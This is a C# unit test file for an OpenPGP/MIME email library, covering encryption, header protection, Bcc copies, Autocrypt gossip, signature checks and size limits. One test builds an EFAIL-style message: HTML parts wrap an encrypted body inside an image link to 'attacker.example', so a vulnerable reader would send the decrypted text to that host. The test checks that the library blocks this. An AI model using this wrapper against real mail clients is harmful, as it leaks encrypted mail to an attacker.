using System.Text;
using Letterlock.OpenPgp.Autocrypt;
using Letterlock.OpenPgp.Mime;
using MimeKit;

namespace Letterlock.OpenPgp.Tests;

public sealed class PgpMimeTests
{
    private static readonly PgpMimeComposer Composer = new();
    private static readonly PgpMimeReader Reader = new();

    internal static MimeMessage Draft(string from = "Alice <alice@example.org>", string to = "Bob <bob@example.net>", string? cc = null, string? bcc = null)
    {
        var message = new MimeMessage();
        message.From.Add(MailboxAddress.Parse(from));
        message.To.Add(MailboxAddress.Parse(to));
        if (cc is not null)
        {
            message.Cc.Add(MailboxAddress.Parse(cc));
        }

        if (bcc is not null)
        {
            message.Bcc.Add(MailboxAddress.Parse(bcc));
        }

        message.Subject = "Quarterly numbers ✓";
        message.Date = new DateTimeOffset(2026, 11, 1, 10, 0, 0, TimeSpan.Zero);
        message.MessageId = "msg1@example.org";
        message.Headers.Add("Keywords", "secret-project");
        message.Body = new Multipart("mixed")
        {
            new TextPart("plain") { Text = "Hello Bob,\nthe numbers are attached.\n-- \nAlice\n" },
            new MimePart("application", "octet-stream") { Content = new MimeContent(new MemoryStream(new byte[] { 1, 2, 3, 0, 255 })), FileName = "n.bin" },
        };
        return message;
    }

    internal static Dictionary<string, Certificate> Certs => new(StringComparer.OrdinalIgnoreCase)
    {
        ["bob@example.net"] = TestKeys.Bob.Certificate,
        ["carol@example.com"] = TestKeys.Carol.Certificate,
        ["alice@example.org"] = TestKeys.Alice.Certificate,
    };

    internal static MimeMessage Reparse(MimeMessage message)
    {
        var raw = new MemoryStream();
        message.WriteTo(raw);
        raw.Position = 0;
        return MimeMessage.Load(raw);
    }

    private static ReadContext BobReads => new() { Keys = [TestKeys.BobUnlocked], Certificates = [TestKeys.Alice.Certificate, TestKeys.Carol.Certificate] };

    [Fact]
    public void Encrypted_message_with_header_protection_round_trips()
    {
        var autocrypt = AutocryptHeader.Create("alice@example.org", TestKeys.Alice.Certificate, PreferEncrypt.Mutual);
        var outgoing = Assert.Single(Composer.Encrypt(Draft(), TestKeys.AliceUnlocked, Certs, new ComposeOptions { Autocrypt = autocrypt }));
        var wire = Reparse(outgoing.Message);
        Assert.Equal("[...]", wire.Subject);
        Assert.Null(wire.Headers["Keywords"]);
        Assert.True(wire.Body is Multipart { ContentType.MimeType: "multipart/encrypted" });
        var raw = Encoding.UTF8.GetString(MimeIoCanonical(wire));
        Assert.DoesNotContain("Quarterly", raw, StringComparison.Ordinal);
        Assert.DoesNotContain("secret-project", raw, StringComparison.Ordinal);

        var read = Reader.Read(wire, BobReads);
        Assert.Equal(EncryptionStatus.Encrypted, read.Security.Encryption);
        Assert.Equal(MessageSignatureStatus.Valid, read.Security.Signature);
        Assert.True(read.Security.CoversWholeMessage);
        Assert.True(read.Security.SignerMatchesFrom);
        Assert.True(read.Security.IsAuthenticated);
        Assert.Equal(TestKeys.Alice.Certificate.Fingerprint, read.Security.Signer);
        Assert.Equal(TestKeys.Bob.Certificate.Subkeys[0].Fingerprint, read.Security.DecryptedWith);
        Assert.Equal("Quarterly numbers ✓", read.Header("Subject"));
        Assert.Equal("secret-project", read.Header("Keywords"));
        Assert.Empty(read.HeaderMismatches);
        Assert.Equal("alice@example.org", read.Autocrypt!.Address);
        Assert.Empty(read.Gossip); // one recipient: nothing to gossip

        var display = read.ToDisplayMessage();
        Assert.Equal("Quarterly numbers ✓", display.Subject);
        Assert.Equal(new byte[] { 1, 2, 3, 0, 255 }, Decode(display.Attachments.OfType<MimePart>().Single()));
        Assert.Contains("numbers are attached", display.TextBody, StringComparison.Ordinal);
    }

    [Fact]
    public void Outer_header_tampering_is_reported_as_mismatch_and_protected_value_wins()
    {
        var outgoing = Composer.Encrypt(Draft(), TestKeys.AliceUnlocked, Certs)[0].Message;
        var wire = Reparse(outgoing);
        wire.Subject = "URGENT: wire money";
        var read = Reader.Read(wire, BobReads);
        var mismatch = Assert.Single(read.HeaderMismatches);
        Assert.Equal("Subject", mismatch.Name);
        Assert.Equal("[...]", mismatch.RecordedOuterValue);
        Assert.Equal("URGENT: wire money", mismatch.OuterValue);
        Assert.Equal("Quarterly numbers ✓", read.Header("Subject"));
    }

    [Fact]
    public void Bcc_recipients_get_separate_copies_and_are_never_visible()
    {
        var outgoing = Composer.Encrypt(Draft(cc: "Carol <carol@example.com>", bcc: "Bob2 <bob@example.net>"), TestKeys.AliceUnlocked, Certs);
        // bob@ is both To and Bcc: he is a visible recipient only.
        Assert.Single(outgoing);

        var withBcc = Composer.Encrypt(Draft(bcc: "Carol <carol@example.com>"), TestKeys.AliceUnlocked, Certs);
        Assert.Equal(2, withBcc.Count);
        Assert.Equal(["bob@example.net"], withBcc[0].Recipients.Select(r => r.Address));
        Assert.Equal(["carol@example.com"], withBcc[1].Recipients.Select(r => r.Address));
        foreach (var copy in withBcc)
        {
            Assert.Null(Reparse(copy.Message).Headers["Bcc"]);
        }

        var bobView = Reader.Read(Reparse(withBcc[0].Message), BobReads);
        Assert.Null(bobView.Header("Bcc"));
        // Bob cannot open Carol's copy; Carol's copy names only her in Bcc.
        Assert.Equal(EncryptionStatus.NoDecryptionKey, Reader.Read(Reparse(withBcc[1].Message), BobReads).Security.Encryption);
        var carolView = Reader.Read(Reparse(withBcc[1].Message), new ReadContext { Keys = [TestKeys.CarolUnlocked], Certificates = [TestKeys.Alice.Certificate] });
        Assert.Equal("Carol <carol@example.com>", carolView.Header("Bcc"));
        Assert.True(carolView.Security.IsAuthenticated);
    }

    [Fact]
    public void Missing_recipient_certificate_is_refused()
    {
        var e = Assert.Throws<KeyNotUsableException>(() => Composer.Encrypt(Draft(cc: "dave@example.org"), TestKeys.AliceUnlocked, Certs));
        Assert.Contains("dave@example.org", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Gossip_travels_only_inside_the_encryption()
    {
        var outgoing = Composer.Encrypt(Draft(cc: "Carol <carol@example.com>"), TestKeys.AliceUnlocked, Certs)[0].Message;
        var wire = Reparse(outgoing);
        Assert.Null(wire.Headers[AutocryptHeader.GossipHeaderName]);
        var read = Reader.Read(wire, BobReads);
        Assert.Equal(["bob@example.net", "carol@example.com"], read.Gossip.Select(g => g.Address).Order());

        // Gossip headers outside the encryption are ignored.
        var plain = Draft();
        plain.Headers.Add(AutocryptHeader.GossipHeaderName, AutocryptHeader.Create("carol@example.com", TestKeys.Carol.Certificate, PreferEncrypt.NoPreference).ToHeaderValue(true).Replace("\r\n", "", StringComparison.Ordinal));
        Assert.Empty(Reader.Read(Reparse(plain), BobReads).Gossip);
    }

    [Fact]
    public void Signed_only_message_verifies_and_covers_the_whole_message()
    {
        var signed = Reparse(Composer.Sign(Draft(), TestKeys.AliceUnlocked));
        Assert.Equal("Quarterly numbers ✓", signed.Subject); // signing does not obscure
        var read = Reader.Read(signed, BobReads);
        Assert.Equal(EncryptionStatus.None, read.Security.Encryption);
        Assert.True(read.Security.IsAuthenticated);
        Assert.NotNull(read.ProtectedHeaders);

        // Altering the signed body breaks the signature.
        var raw = Encoding.UTF8.GetString(MimeIoCanonical(signed)).Replace("numbers are attached", "numbers are wrong!!", StringComparison.Ordinal);
        var tampered = MimeMessage.Load(new MemoryStream(Encoding.UTF8.GetBytes(raw)));
        var bad = Reader.Read(tampered, BobReads);
        Assert.Equal(MessageSignatureStatus.Invalid, bad.Security.Signature);
        Assert.False(bad.Security.IsAuthenticated);
    }

    [Fact]
    public void Wrapped_signed_part_does_not_cover_the_whole_message()
    {
        var signed = Reparse(Composer.Sign(Draft(), TestKeys.AliceUnlocked));
        var wrapper = new MimeMessage();
        wrapper.From.Add(MailboxAddress.Parse("alice@example.org"));
        wrapper.To.Add(MailboxAddress.Parse("bob@example.net"));
        wrapper.Subject = "Fwd";
        wrapper.Body = new Multipart("mixed") { new TextPart("plain") { Text = "Attacker text: please pay invoice 123." }, signed.Body! };
        var read = Reader.Read(Reparse(wrapper), BobReads);
        Assert.Equal(MessageSignatureStatus.Valid, read.Security.Signature);
        Assert.False(read.Security.CoversWholeMessage);
        Assert.False(read.Security.IsAuthenticated);
    }

    [Fact]
    public void Signer_must_match_from()
    {
        var forged = Draft(from: "Carol <carol@example.com>");
        var outgoing = Composer.Encrypt(forged, TestKeys.AliceUnlocked, Certs)[0].Message;
        var read = Reader.Read(Reparse(outgoing), BobReads);
        Assert.Equal(MessageSignatureStatus.Valid, read.Security.Signature);
        Assert.True(read.Security.CoversWholeMessage);
        Assert.False(read.Security.SignerMatchesFrom);
        Assert.False(read.Security.IsAuthenticated);
    }

    [Fact]
    public void Unknown_signer_is_reported()
    {
        var outgoing = Composer.Encrypt(Draft(), TestKeys.AliceUnlocked, Certs)[0].Message;
        var read = Reader.Read(Reparse(outgoing), new ReadContext { Keys = [TestKeys.BobUnlocked] });
        Assert.Equal(MessageSignatureStatus.UnknownKey, read.Security.Signature);
        Assert.Equal(TestKeys.Alice.Certificate.SigningKeys(DateTimeOffset.UtcNow).First().KeyId, read.Security.SignerKeyId);
    }

    [Fact]
    public void Encrypted_part_inside_a_plain_multipart_is_partial_and_not_decrypted()
    {
        var encrypted = Reparse(Composer.Encrypt(Draft(), TestKeys.AliceUnlocked, Certs)[0].Message);
        var efail = new MimeMessage();
        efail.From.Add(MailboxAddress.Parse("alice@example.org"));
        efail.To.Add(MailboxAddress.Parse("bob@example.net"));
        efail.Body = new Multipart("mixed") { new TextPart("html") { Text = "<img src=\"http://attacker.example/" }, encrypted.Body!, new TextPart("html") { Text = "\">" } };
        var read = Reader.Read(Reparse(efail), BobReads);
        Assert.Equal(EncryptionStatus.PartiallyEncrypted, read.Security.Encryption);
        Assert.False(read.Security.IsEncrypted);
        Assert.DoesNotContain("numbers are attached", Encoding.UTF8.GetString(MimeIoCanonical(read.ToDisplayMessage())), StringComparison.Ordinal);
    }

    [Fact]
    public void Sign_then_encrypt_nesting_is_read()
    {
        // RFC 3156 6.1: multipart/signed inside multipart/encrypted.
        var signed = Reparse(Composer.Sign(Draft(), TestKeys.CarolUnlocked));
        var engine = new OpenPgpEngine();
        var ciphertext = engine.Encrypt(MimeIoCanonical(signed.Body!), [TestKeys.Bob.Certificate]);
        var message = new MimeMessage();
        message.From.Add(MailboxAddress.Parse("carol@example.com"));
        message.To.Add(MailboxAddress.Parse("bob@example.net"));
        message.Body = new Multipart("encrypted")
        {
            new MimePart("application", "pgp-encrypted") { Content = new MimeContent(new MemoryStream("Version: 1\r\n"u8.ToArray())) },
            new MimePart("application", "octet-stream") { Content = new MimeContent(new MemoryStream(ciphertext)) },
        };
        ((Multipart)message.Body).ContentType.Parameters.Add("protocol", "application/pgp-encrypted");
        var read = Reader.Read(Reparse(message), BobReads);
        Assert.Equal(EncryptionStatus.Encrypted, read.Security.Encryption);
        Assert.Equal(MessageSignatureStatus.Valid, read.Security.Signature);
        Assert.True(read.Security.CoversWholeMessage);
        // The signed part's protected From is Alice (the draft), but Carol signed: not authenticated.
        Assert.False(read.Security.SignerMatchesFrom);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Inline_pgp_is_read(bool whole)
    {
        var engine = new OpenPgpEngine();
        var armored = Encoding.ASCII.GetString(engine.Encrypt("inline secret"u8, [TestKeys.Bob.Certificate], new EncryptOptions { Signers = [TestKeys.AliceUnlocked] }));
        var message = Draft();
        message.Body = new TextPart("plain") { Text = whole ? armored : "Look:\n" + armored + "\nbye" };
        var read = Reader.Read(Reparse(message), BobReads);
        Assert.Equal(whole ? EncryptionStatus.Encrypted : EncryptionStatus.PartiallyEncrypted, read.Security.Encryption);
        Assert.Equal(whole, read.Security.IsAuthenticated);
        Assert.Contains("inline secret", ((TextPart)read.Body).Text, StringComparison.Ordinal);

        var clear = Encoding.UTF8.GetString(engine.SignInline("signed inline\n"u8, [TestKeys.AliceUnlocked], InlineSignStyle.Cleartext));
        message.Body = new TextPart("plain") { Text = clear };
        var signedRead = Reader.Read(Reparse(message), BobReads);
        Assert.True(signedRead.Security.IsAuthenticated);
        Assert.Equal(EncryptionStatus.None, signedRead.Security.Encryption);
    }

    [Fact]
    public void Integrity_failure_in_pgp_mime_is_an_exception_not_content()
    {
        var wire = Encoding.ASCII.GetString(MimeIoCanonical(Reparse(Composer.Encrypt(Draft(), TestKeys.AliceUnlocked, Certs)[0].Message)));
        var message = MimeMessage.Load(new MemoryStream(Encoding.ASCII.GetBytes(wire)));
        var part = (MimePart)((Multipart)message.Body!)[1];
        var armored = Decode(part);
        var binary = Armor.Decode(armored);
        binary[binary.Length / 2] ^= 0x01;
        part.Content = new MimeContent(new MemoryStream(Armor.Encode(binary)));
        Assert.Throws<IntegrityException>(() => Reader.Read(Reparse(message), BobReads));
    }

    [Fact]
    public void Mime_depth_limit_edge()
    {
        MimeEntity entity = new TextPart("plain") { Text = "deep" };
        for (var i = 0; i < 9; i++)
        {
            entity = new Multipart("mixed") { entity };
        }

        var message = Draft();
        message.Body = entity; // depth 10
        var reparsed = Reparse(message);
        Assert.Equal("Quarterly numbers ✓", new PgpMimeReader(new OpenPgpOptions { MaxMimeDepth = 10 }).Read(reparsed, BobReads).Outer.Subject);
        var e = Assert.Throws<LimitExceededException>(() => new PgpMimeReader(new OpenPgpOptions { MaxMimeDepth = 9 }).Read(reparsed, BobReads));
        Assert.Equal(nameof(OpenPgpOptions.MaxMimeDepth), e.LimitName);
    }

    [Fact]
    public void Raw_message_size_limit_edge()
    {
        var raw = MimeIoCanonical(Draft());
        Assert.Equal("Quarterly numbers ✓", new PgpMimeReader(new OpenPgpOptions { MaxMessageSize = raw.Length }).Read(new MemoryStream(raw), BobReads).Outer.Subject);
        var e = Assert.Throws<LimitExceededException>(() => new PgpMimeReader(new OpenPgpOptions { MaxMessageSize = raw.Length - 1 }).Read(new MemoryStream(raw), BobReads));
        Assert.Equal(nameof(OpenPgpOptions.MaxMessageSize), e.LimitName);
    }

    [Fact]
    public void Plain_message_has_no_security()
    {
        var read = Reader.Read(Reparse(Draft()), BobReads);
        Assert.Equal(EncryptionStatus.None, read.Security.Encryption);
        Assert.Equal(MessageSignatureStatus.None, read.Security.Signature);
        Assert.Null(read.ProtectedHeaders);
    }

    internal static byte[] MimeIoCanonical(MimeMessage message)
    {
        var output = new MemoryStream();
        message.WriteTo(output);
        return output.ToArray();
    }

    private static byte[] MimeIoCanonical(MimeEntity entity)
    {
        var options = FormatOptions.Default.Clone();
        options.NewLineFormat = NewLineFormat.Dos;
        var output = new MemoryStream();
        entity.WriteTo(options, output);
        return output.ToArray();
    }

    private static byte[] Decode(MimePart part)
    {
        var output = new MemoryStream();
        part.Content!.DecodeTo(output);
        return output.ToArray();
    }
}
